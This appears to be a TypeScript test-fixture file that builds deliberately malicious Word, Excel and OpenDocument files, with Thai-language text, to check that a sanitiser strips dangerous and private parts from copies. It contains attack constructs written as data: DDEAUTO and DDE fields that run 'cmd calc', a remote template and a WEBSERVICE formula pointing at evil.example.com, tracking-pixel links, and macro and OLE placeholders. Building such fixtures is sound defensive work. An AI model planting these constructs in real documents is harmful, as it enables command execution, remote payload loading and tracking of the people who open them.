import { docx, jpegWithGps, odf, p, relations, xlsx } from './build.ts';

const S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const field = (code: string, shown: string) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code.slice(0, 4)}</w:instrText></w:r><w:r><w:instrText>${code.slice(4)}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>${shown}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;

/** A Word document with everything in it that the copy must go without. */
export function nastyWord(): Uint8Array {
  const body =
    p('ข้อความที่ต้องอยู่') +
    p(field('DDEAUTO cmd calc', 'ผลของ DDE')) +
    p(field('PAGE', '3')) +
    p('<w:fldSimple w:instr="INCLUDEPICTURE C:\\x.png"><w:r><w:t>ผลของภาพ</w:t></w:r></w:fldSimple>') +
    p('<w:ins w:id="1" w:author="นายลับ" w:date="2024-01-01T00:00:00Z"><w:r><w:t>ที่เพิ่ม</w:t></w:r></w:ins>') +
    p(
      '<w:hyperlink r:id="rId2"><w:r><w:t>ลิงก์ในเครื่อง</w:t></w:r></w:hyperlink><w:hyperlink r:id="rId3"><w:r><w:t>ลิงก์เว็บ</w:t></w:r></w:hyperlink>',
    ) +
    p(
      '<w:r><w:object><v:shape id="s1"><v:imagedata r:id="rId5" o:title="C:\\Users\\secret\\a.bmp"/></v:shape><o:OLEObject Type="Embed" r:id="rId4"/></w:object></w:r>',
    ) +
    p(
      '<w:r><w:drawing><wp:inline><wp:docPr id="1" name="p" descr="C:\\Users\\secret\\photo.jpg"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:embed="rId5" r:link="rId6"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>',
    ) +
    p(
      '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/x"/></w:sdtPr><w:sdtContent><w:r><w:t>ช่องผูกข้อมูล</w:t></w:r></w:sdtContent></w:sdt>',
    );
  return docx(body, {
    type: 'application/vnd.ms-word.document.macroEnabled.main+xml',
    relations: {
      rId1: ['vbaProject', 'vbaProject.bin'],
      rId2: ['hyperlink', '!file:///C:/Users/secret/plan.docx'],
      rId3: ['hyperlink', '!https://www.example.go.th/'],
      rId4: ['oleObject', 'embeddings/oleObject1.bin'],
      rId5: ['image', 'media/image1.jpeg'],
      rId6: ['image', '!https://tracker.example.com/1.png'],
      rId7: ['settings', 'settings.xml'],
      rId8: ['comments', 'comments.xml'],
      rId9: ['customXml', '../customXml/item1.xml'],
      rId10: ['people', 'people.xml'],
    },
    parts: {
      'word/vbaProject.bin': 'macro',
      'word/_rels/vbaProject.bin.rels': relations({ rId1: ['wordVbaData', 'vbaData.xml'] }),
      'word/vbaData.xml': '<a/>',
      'word/embeddings/oleObject1.bin': 'ole',
      'word/media/image1.jpeg': jpegWithGps(6),
      'word/settings.xml': `<w:settings ${W} ${R}><w:attachedTemplate r:id="rId1"/><w:mailMerge><w:query w:val="SELECT secret"/></w:mailMerge><w:rsids><w:rsid w:val="00AA"/></w:rsids><w:zoom w:percent="100"/></w:settings>`,
      'word/_rels/settings.xml.rels': relations({ rId1: ['attachedTemplate', '!https://evil.example.com/t.dotm'] }),
      'word/comments.xml': `<w:comments ${W}><w:comment w:id="4" w:author="นายลับ" w:initials="ลับ"><w:p><w:r><w:t>ความเห็น</w:t></w:r></w:p></w:comment></w:comments>`,
      'word/people.xml': '<people author="นายลับ"/>',
      'customXml/item1.xml': '<secret/>',
    },
  });
}

/** A workbook with everything in it that the copy must go without. */
export function nastyExcel(): Uint8Array {
  const rows =
    '<row r="1"><c r="A1"><f>[1]ลับ!$A$1</f><v>12</v></c><c r="B1"><f t="shared" ref="B1:B2" si="0">\'[1]a b\'!A1</f><v>3</v></c><c r="C1"><f>_xlfn.WEBSERVICE("https://evil.example.com")</f><v>4</v></c></row>' +
    '<row r="2"><c r="A2"><f>SUM(A1:A1)</f><v>12</v></c><c r="B2"><f t="shared" si="0"/><v>5</v></c><c r="C2"><f>SUM(Table1[2567])</f><v>6</v></c></row>';
  return xlsx(rows, {
    type: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
    workbook:
      '<externalReferences><externalReference r:id="rId2"/></externalReferences><definedNames><definedName name="นอก">[1]ลับ!$A$1</definedName><definedName name="ใน">แผ่นที่ 1!$A$1</definedName></definedNames><x15ac:absPath xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac" url="C:\\Users\\secret\\"/>',
    relations: {
      rId2: ['externalLink', 'externalLinks/externalLink1.xml'],
      rId3: ['vbaProject', 'vbaProject.bin'],
      rId4: ['connections', 'connections.xml'],
      rId5: ['calcChain', 'calcChain.xml'],
    },
    parts: {
      'xl/externalLinks/externalLink1.xml': `<externalLink ${S}><ddeLink ddeService="cmd" ddeTopic="calc"/></externalLink>`,
      'xl/externalLinks/_rels/externalLink1.xml.rels': relations({
        rId1: ['externalLinkPath', '!file:///C:/Users/secret/b.xlsx'],
      }),
      'xl/vbaProject.bin': 'macro',
      'xl/connections.xml': `<connections ${S}><connection id="1" sourceFile="C:\\Users\\secret\\db.mdb"/></connections>`,
      'xl/calcChain.xml': `<calcChain ${S}><c r="A1"/></calcChain>`,
      'xl/worksheets/_rels/sheet1.xml.rels': relations({
        rId1: ['comments', '../comments1.xml'],
        rId2: ['printerSettings', '../printerSettings/printerSettings1.bin'],
      }),
      'xl/comments1.xml': `<comments ${S}><authors><author>นายลับ</author><author>tc={1}</author></authors><commentList><comment ref="A1" authorId="0"><text><r><t>นายลับ:</t></r><r><t>ดูด้วย</t></r></text></comment></commentList></comments>`,
      'xl/printerSettings/printerSettings1.bin': 'printer of secret',
    },
  });
}

/** An OpenDocument with everything in it that the copy must go without. */
export function nastyOdf(): Uint8Array {
  const body =
    '<office:event-listeners><script:event-listener/></office:event-listeners><text:p>ข้อความที่ต้องอยู่ <text:a xlink:href="vnd.sun.star.script:x">ปุ่ม</text:a><text:a xlink:href="https://www.example.go.th/">เว็บ</text:a></text:p>' +
    '<text:section><text:section-source xlink:href="file:///C:/Users/secret/a.odt"/><text:p>ส่วนที่ดึงมา</text:p></text:section>' +
    '<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/><draw:image xlink:href="./ObjectReplacements/Object 1"/></draw:frame><draw:frame><draw:image xlink:href="https://tracker.example.com/1.png"/></draw:frame></text:p>';
  return odf('text', body, {
    'meta.xml':
      '<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"><office:meta><meta:template xlink:href="C:\\Users\\secret\\t.ott"/><meta:printed-by>นายลับ</meta:printed-by></office:meta></office:document-meta>',
    'settings.xml':
      '<office:document-settings xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:config="urn:oasis:names:tc:opendocument:xmlns:config:1.0"><config:config-item config:name="PrinterName">เครื่องของนายลับ</config:config-item><config:config-item config:name="AddFrameOffsets">true</config:config-item></office:document-settings>',
    'Basic/script-lc.xml': '<a/>',
    'Object 1': 'ole',
    'ObjectReplacements/Object 1': 'picture',
    'Thumbnails/thumbnail.png': 'old page',
    'Configurations2/a.xml': '<a/>',
    'Pictures/1.jpg': jpegWithGps(),
  });
}
